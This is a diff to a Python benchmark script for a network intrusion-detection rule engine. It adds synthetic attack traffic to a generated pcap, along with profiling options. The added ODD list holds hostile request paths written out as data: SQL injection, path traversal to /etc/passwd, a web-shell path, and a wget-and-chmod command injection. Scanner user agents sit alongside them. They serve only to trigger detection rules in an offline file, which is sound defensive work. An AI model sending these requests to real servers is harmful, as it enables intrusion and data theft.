@@ -44,10 +44,19 @@ from pcap_throughput import (  # noqa: E402
 
 CACHE = REPO / "bench" / ".cache"
 SIZES = [200, 600, 1500, 4000, 9000, 20000, 60000]
+# requests ET Open has rules for (scanners, traversal, injection, probes): 5 % of them
+ODD = ["/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+       "/cgi-bin/../../../../etc/passwd", "/.git/config", "/phpmyadmin/index.php",
+       "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
+       "/?cmd=wget%20http://x/a.sh%3Bchmod%20777%20a.sh", "/shell?cat+/etc/passwd"]
+ODD_UA = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Python-urllib/3.11",
+          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Go-http-client/1.1"]
 
 
 def _exchange(rng: random.Random) -> tuple[bytes, bytes]:
     path, host, ua = rng.choice(PATHS), rng.choice(HOSTS), rng.choice(USER_AGENTS)
+    if rng.random() < 0.05:
+        path, ua = rng.choice(ODD), rng.choice(ODD_UA)
     request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\n"
                "Accept: */*\r\n\r\n").encode()
     size = rng.choice(SIZES)
@@ -72,6 +81,9 @@ def generate(path: Path, conns: int, seed: int = 10) -> None:
     writer.write_header(None)
     for conv in range(1, conns + 1):
         c = _Connection(writer, conv, rng, clock)
+        # a server outside HOME_NET (documentation range; the pcap is only a file), so
+        # $HOME_NET -> $EXTERNAL_NET rules apply as on a sensor's uplink
+        c.server = f"203.0.113.{conv % 200 + 1}"
         c.emit(True, "S")
         c.emit(False, "SA")
         c.emit(True, "A")
@@ -97,9 +109,11 @@ def _rules(kind: str) -> Path:
     return http_rules(10 if kind == "10" else None)
 
 
-def run_one(repo: Path, pcap: Path, rules: Path) -> dict[str, object]:
+def run_one(repo: Path, pcap: Path, rules: Path, profile: Path | None = None
+            ) -> dict[str, object]:
     logdir = Path(tempfile.mkdtemp(prefix="bench-dr-"))
-    cmd = [sys.executable, "-m", "ruleengine", "run", "-r", str(pcap), "-S", str(rules),
+    prof = ["-m", "cProfile", "-o", str(profile)] if profile else []
+    cmd = [sys.executable, *prof, "-m", "ruleengine", "run", "-r", str(pcap), "-S", str(rules),
            "-l", str(logdir), "-k", "none"]
     t0 = time.perf_counter()
     proc = subprocess.Popen(cmd, cwd=repo, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
@@ -128,6 +142,7 @@ def main() -> int:
     parser.add_argument("--conns", type=int, default=3000)
     parser.add_argument("--repo", action="append", type=Path, help="checkout to run (repeat)")
     parser.add_argument("--sets", default="10,http,all")
+    parser.add_argument("--profile", type=Path, help="cProfile each run to PROFILE.<n>")
     args = parser.parse_args()
     CACHE.mkdir(parents=True, exist_ok=True)
     pcap = CACHE / f"realistic-{args.conns}.pcap"
@@ -137,12 +152,14 @@ def main() -> int:
     print(f"pcap: {pcap} ({pcap.stat().st_size / 1e6:.1f} MB)")
     for kind in args.sets.split(","):
         rules = _rules(kind)
-        for repo in args.repo or [REPO]:
-            r = run_one(repo.resolve(), pcap, rules)
+        for n, repo in enumerate(args.repo or [REPO]):
+            prof = Path(f"{args.profile}.{kind}.{n}") if args.profile else None
+            r = run_one(repo.resolve(), pcap, rules, prof)
             pps = float(r["packets"]) / float(r["cpu"]) if r["cpu"] else 0.0  # type: ignore[arg-type]
             print(f"rules={kind:5s} repo={repo} cpu={r['cpu']:.2f}s wall={r['wall']:.2f}s "
                   f"pkts={r['packets']} pkt/s(cpu)={pps:.0f} rss={r['rss_mb']:.0f}MB "
                   f"alerts={r['alerts']} digest={r['digest']}", flush=True)
+            print(f"  sids: {r['sids']}", flush=True)
     return 0
 
 
